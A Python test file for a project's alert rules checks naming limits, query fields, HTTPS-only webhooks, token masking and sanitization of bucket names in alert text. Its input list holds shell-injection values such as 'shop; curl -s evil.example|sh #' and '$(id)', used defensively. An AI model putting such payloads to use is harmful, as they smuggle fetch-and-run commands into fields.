"""The table of alerts, and whom they go to."""

import json
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from resource_repair.naming import is_bucket_name
from scripts.account.alert_rules import IN_MESSAGE, MESSAGE, NO_NAME, OF_A_RUN, QUIET, alert_rules
from scripts.account.notifications import webhook_type
from scripts.account.recipients import Recipients
from scripts.declared import PATH, Spec, load
from scripts.errors import UsageError
from scripts.localcloud.log.analysis import rows
from scripts.localcloud.log.index import Index
from scripts.localcloud.log.logs import Log

HOURS = {"m": 1 / 60, "h": 1.0}


@pytest.fixture(scope="module")
def spec() -> Spec:
    """The project's own."""
    return load(PATH, {"PREPARE_RULE_ID": "cr-1"}, "1208863178610000")


def hours(span: str) -> float:
    """How long `5m` or `24h` is."""
    return int(span[:-1]) * HOURS[span[-1]]


def test_names_are_such_as_log_service_takes(spec: Spec) -> None:
    """Each alert has a name and a title within the documented bounds, and no two share one."""
    rules = alert_rules(spec).values()
    assert len({rule.name for rule in rules}) == len(rules) == 9
    for rule in rules:
        assert re.fullmatch(r"[0-9a-z][0-9a-z_-]{2,62}[0-9a-z]", rule.name)
        assert 4 <= len(rule.title.encode()) <= 100


def test_no_alert_looks_back_further_than_may_be(spec: Spec) -> None:
    """24 hours at most, no less than its pace, and quiet for longer: each row wakes once."""
    for rule in alert_rules(spec).values():
        assert hours(rule.every) <= hours(rule.looks_back) <= 24 < hours(QUIET)


def test_what_is_asked_for_is_indexed(spec: Spec) -> None:
    """Every field that a query names is one that provision gives an index."""
    known = {*(f"{MESSAGE}.{name}" for name in IN_MESSAGE), *OF_A_RUN}
    for rule in alert_rules(spec).values():
        searched = set(re.findall(r"([\w.]+):", rule.query.partition("|")[0]))
        counted = set(re.findall(r'"([\w.]+)"', rule.query.partition("|")[2]))
        assert searched
        assert searched | counted <= known


def test_the_text_names_columns_that_a_row_has(spec: Spec) -> None:
    """What stands as ${column} in a text, and what tells causes apart, is a column of the query."""
    for rule in alert_rules(spec).values():
        columns = re.findall(r"as (\w+)", rule.query) + re.findall(r"select (\w+),", rule.query)
        assert {*re.findall(r"\$\{(\w+)\}", rule.text), *rule.about} <= set(columns)


INDEXED = {name: {"type": "text", "doc_value": True} for name in IN_MESSAGE}
INDEX = Index.parse({"keys": {MESSAGE: {"type": "json", "token": [" "], "json_keys": INDEXED}}})
NAMES = st.one_of(
    st.text(),
    st.text("abz019-\n"),
    st.from_regex(r"[a-z0-9-]{1,70}\n?", fullmatch=True),
    st.sampled_from(["shop", "shop\n", "shop; curl -s evil.example|sh #", "$(id)", "-x-", "ab"]),
)


@pytest.mark.parametrize("alert", ["unsettled", "reopened"])
@given(name=NAMES)
def test_only_a_bucket_s_name_reaches_whoever_is_woken(spec: Spec, alert: str, name: str) -> None:
    """The text has a command to copy: what else is in its place is told as no name at all."""
    rule = alert_rules(spec)[alert]
    assert "--bucket ${bucket}" in rule.text
    message = json.dumps({"bucket": name, "outcome": "failed", "request_id": "r-1"})
    line = Log(0, "", "", {MESSAGE: message}, INDEX, 0.0)
    (row,) = rows(rule.query.partition("|")[2].replace("> 2", "> 0"), [line], INDEX)
    assert row["bucket"] == (name if is_bucket_name(name) else NO_NAME)


def closings(reported: list[int | None]) -> list[Log]:
    """Lines of the closing of a bucket, each when its finding was reported."""
    lines = (
        {"bucket": "shop", "outcome": "repaired", "reported_at": at, "request_id": f"r-{n}"}
        for n, at in enumerate(reported)
    )
    return [Log(0, "", "", {MESSAGE: json.dumps(line)}, INDEX, 0.0) for line in lines]


@pytest.mark.parametrize(
    ("reported", "repairs"),
    [([1] * 5, ""), ([1, 1, 2], ""), ([1, 2, 3], "3"), ([1, 1, 2, 3], "3"), ([None] * 3, "3")],
)
def test_one_opening_is_counted_once_however_often_it_is_delivered(
    spec: Spec, reported: list[int | None], repairs: str
) -> None:
    """Openings are told apart by when they were reported; without that, by their requests."""
    query = alert_rules(spec)["reopened"].query
    found = rows(query.partition("|")[2], closings(reported), INDEX)
    assert [row["repairs"] for row in found] == ([repairs] if repairs else [])


@pytest.mark.parametrize("retries", [0, 3, 8])
def test_a_message_is_kept_after_as_many_runs_as_are_declared(spec: Spec, retries: int) -> None:
    """The alert about the queue counts by the retries of s.yaml."""
    asynchronous = spec.function.async_config
    assert asynchronous
    declared = replace(asynchronous, retries=retries)
    changed = replace(spec, function=replace(spec.function, async_config=declared))
    assert alert_rules(changed)["kept"].query.endswith(f"having count(1) > {retries}")


@pytest.mark.parametrize(
    "address",
    [
        "http://example.com/hook",
        "ftp://example.com",
        "https:///hook",
        "https://[hook",
        "example.com/hook",
        "file:///x",
    ],
)
def test_only_https_leaves_the_machine(address: str) -> None:
    """Any other address is refused, and not quoted."""
    with pytest.raises(UsageError) as refused:
        Recipients.of({"ALERT_WEBHOOK": address})
    assert address not in str(refused.value)


@given(st.text("abcdefghijklmnopqrstuvwxyz0123456789", min_size=12))
def test_a_token_is_never_shown(token: str) -> None:
    """Wherever in its address a webhook has its token, what is shown of it has none."""
    for address in (
        f"https://hooks.example.com/{token}",
        f"https://hooks.example.com/robot?access_token={token}",
        f"https://{token}@hooks.example.com/",
        f"https://user:{token}@hooks.example.com/",
    ):
        recipients = Recipients.of({"ALERT_WEBHOOK": address})
        assert recipients.shown() == "https://hooks.example.com/…"
        assert token not in repr(recipients)


def test_people_are_told_apart() -> None:
    """Several addresses are several people; what is none is refused, and nothing is nobody."""
    assert Recipients.of({"ALERT_EMAIL": "a@x.org, b@x.org"}).emails == ("a@x.org", "b@x.org")
    assert not Recipients.of({"ALERT_EMAIL": " ", "ALERT_WEBHOOK": ""})
    with pytest.raises(UsageError, match="'on-call'"):
        Recipients.of({"ALERT_EMAIL": "on-call"})


def test_who_has_a_form_of_their_own_gets_it() -> None:
    """Chat services are called in their own way, and everybody else with JSON."""
    assert webhook_type("https://oapi.dingtalk.com/robot/send?access_token=x") == "dingtalk"
    assert webhook_type("https://hooks.slack.com/services/x") == "slack"
    assert webhook_type("https://example.com/oapi.dingtalk.com") == "custom"
